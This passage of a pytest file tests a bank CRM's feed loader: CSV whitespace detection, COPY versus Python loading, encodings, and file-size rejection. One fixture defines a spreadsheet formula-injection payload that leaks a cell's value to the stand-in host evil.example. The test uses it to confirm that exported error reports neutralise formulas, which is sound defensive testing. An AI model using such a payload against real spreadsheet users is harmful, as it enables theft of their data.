    tidy = b"T1,6222001,K1,2026-11-20 09:30,1,CNY,C,atm,t,\xe7\x8e\xb0 \xe9\x87\x91\nT2,,K1,x y,1,CNY,C,atm,t,\n"
    assert not copying.needs_cleaning(tidy, ",")
    assert not copying.needs_cleaning(tidy.replace(b"\n", b"\r\n"), ",")  # Windows line breaks
    for untidy in (
        b" T1,K1\n",  # a space at the start of the first cell
        b"T1 ,K1\n",
        b"T1, K1\n",
        b"T1,K1 \n",
        b"T1,K1\n\tT2,K1\n",
        b"T1,K1 ",  # the last line, without its line break
        b'"T1",K1\n',  # quoted: a quoted cell may hold anything
        b"T1,K1 \r\n",
        b"T1,K\r1\n",  # a carriage return that is no line break
        b"T1,K\x0b1\n",
        "T1,K\u00a01\n".encode(),
        "T1,\u3000K1\n".encode(),
        "T1,K1\u200b\n".encode(),
        "\ufeffT1,K1\n".encode(),
    ):
        assert copying.needs_cleaning(untidy, ","), untidy
    # With tabs as delimiter a tab is no blank, but a space still is.
    assert not copying.needs_cleaning(b"T1\tK1\t\n", "\t")
    assert copying.needs_cleaning(b"T1\t K1\n", "\t")


def test_a_tidy_file_and_the_same_file_padded_load_the_same_rows(org, accounts, monkeypatch):
    rows = [TXN_CASES[0], TXN_CASES[3], ["T7", *TXN_CASES[0][1:4], "-0.5", "usd", "D", "pos", "t", "现金"]]
    tidy = deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, rows))
    tidy_rows = sorted(Transaction.objects.values_list(*TXN_FIELDS))
    padded = [[f" {cell}\u3000" if cell else cell for cell in row] for row in rows]
    untidy = deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, padded))
    assert (tidy.rows_loaded, untidy.rows_loaded) == (3, 3)
    assert sorted(Transaction.objects.values_list(*TXN_FIELDS)) == tidy_rows
    windows = deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, rows).replace(b"\n", b"\r\n"))
    assert windows.rows_loaded == 3 and not windows.errors.exists()
    assert sorted(Transaction.objects.values_list(*TXN_FIELDS)) == tidy_rows


GOOD_TXN = ["T9", "6222001", "K1", "2026-11-20 09:30", "1", "CNY", "C", "atm", "t", ""]


@pytest.mark.parametrize(
    ("content", "read", "error_rows"),
    [
        # More cells than the header, and fewer: COPY refuses, the Python path names the row.
        (csv_bytes(TXN_HEADER, [TXN_CASES[0], GOOD_TXN + ["stray"]]), 2, [(3, "—")]),
        (
            csv_bytes(TXN_HEADER, [TXN_CASES[0], GOOD_TXN[:4]]),
            2,
            [(3, "amount"), (3, "channel"), (3, "currency"), (3, "direction"), (3, "txn_type")],
        ),
        # A line holding only \. would end COPY's data early: no row after it may be lost.
        (
            csv_bytes(TXN_HEADER, [TXN_CASES[0]]) + b"\\.\n" + csv_bytes(TXN_HEADER, [GOOD_TXN]).split(b"\n", 1)[1],
            3,
            [
                (3, "account_number"),
                (3, "amount"),
                (3, "channel"),
                (3, "currency"),
                (3, "customer_key"),
                (3, "direction"),
                (3, "occurred_at"),
                (3, "txn_type"),
            ],
        ),
    ],
)
def test_rows_the_copy_path_cannot_take_are_still_reported_by_row(org, accounts, content, read, error_rows):
    load = deliver(org.admin, "transactions", content)
    assert (load.status, load.rows_read, load.rows_loaded) == (FeedLoad.Status.LOADED, read, read - 1)
    assert errors_of(load) == error_rows


def test_a_transaction_file_with_a_byte_that_does_not_decode_is_rejected_whole(org, accounts):
    # Past the first megabyte (which decides the encoding): COPY refuses it, the Python path names the line.
    rows = [[f"T{i:06d}", *GOOD_TXN[1:]] for i in range(25_000)]
    content = csv_bytes(TXN_HEADER, rows).replace(b"T024990", b"T\xff24990")
    assert len(content) > 1024 * 1024
    load = deliver(org.admin, "transactions", content)
    assert load.status == FeedLoad.Status.REJECTED and "near line" in load.error
    assert not Transaction.objects.exists() and not load.errors.exists()


def test_a_gb18030_transaction_file_with_semicolons_loads_through_copy(org, accounts):
    rows = [GOOD_TXN[:9] + ["现金存入"]]
    header = ["交易流水号", "账号", "客户源键", "交易时间", "金额", "币种", "借贷方向", "渠道", "交易类型", "摘要"]
    load = deliver(org.admin, "transactions", csv_bytes(header, rows, encoding="gb18030", delimiter=";"))
    assert (load.encoding, load.rows_loaded) == ("gb18030", 1)
    assert Transaction.objects.get().description == "现金存入"


# --- downloads arrive inert --------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_both_error_reports_arrive_inert_with_row_numbers_as_numbers(org, client):
    load = deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1", birth_date=FORMULA)]))
    assert errors_of(load) == [(2, "birth_date")]
    client.force_login(org.admin)
    response = client.get(f"/customers/feeds/{load.pk}/errors.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    row, field, value, _reason = next(sheet.iter_rows(min_row=2))
    assert (row.data_type, row.value, field.value) == ("n", 2, "birth_date")
    assert (value.data_type, value.value, value.quotePrefix) == ("s", FORMULA, True)  # a string cell
    response = client.get(f"/customers/feeds/{load.pk}/errors.csv")
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert lines[1][:3] == ["2", "birth_date", "'" + FORMULA]
    # Both downloads are audited as exports of the load.
    assert (
        AuditLog.objects.filter(action=AuditLog.Action.EXPORT, object_type="customers.feedload", detail__load=load.pk).count()
        == 2
    )


def test_a_workbook_feed_larger_than_an_upload_is_rejected_with_the_way_out(org, settings, tmp_path):
    settings.OCRM_FEED_INBOX = str(tmp_path)
    settings.OCRM_FEED_INBOX_SETTLE_SECONDS = 0
    folder = tmp_path / org.bank_a.code
    folder.mkdir()
    (folder / "CORE_customers_20261120.xlsx").write_bytes(xlsx_bytes(CUSTOMER_HEADER, [customer_row("C1")]))
    SystemParameter.objects.create(bank=org.bank_a, key="import.max_upload_bytes", value_type="int", value="1000")
    services.scan_inbox()
    load = FeedLoad.objects.get()
    services.run_load(load.pk)
    load.refresh_from_db()
    assert load.status == FeedLoad.Status.REJECTED and load.error.endswith("Send large feeds as CSV.")
    assert "the largest file accepted is" in load.error and not SourceRecord.objects.exists()
